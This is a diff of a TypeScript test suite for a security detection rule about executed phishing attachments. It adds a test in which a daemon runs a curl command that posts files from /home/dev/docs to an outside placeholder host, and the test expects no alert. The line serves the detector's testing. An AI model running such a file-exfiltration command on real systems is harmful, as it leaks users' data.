@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { Alert } from '../../events/alert.ts';
-import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
+import { type Process, UNSET } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
 import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
 import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
 
@@ -188,4 +188,15 @@ test('what a text browser saves at a terminal came from outside, and its own not
     alerts.flatMap(alert => alert.steps.map(step => step.kind)),
     ['file.created', 'content.executed', 'file.opened', 'network.connected'],
   );
+});
+
+test('jobs that a daemon starts one after the other feed each other nothing', async () => {
+  const log = new HostLog();
+  const daemon = log.service('/usr/sbin/incrond');
+  const who = { uid: 1002, auid: UNSET, ses: UNSET, tty: '(none)' };
+  for (const name of ['a', 'b', 'c']) {
+    const line = `/usr/bin/curl -s --data-binary @/home/dev/docs/${name} http://${OUT}/i`;
+    calls(daemon.fork(who).run(['/bin/bash', '-c', line]).exec(line));
+  }
+  assert.deepEqual(await alertsOf(log), []);
 });
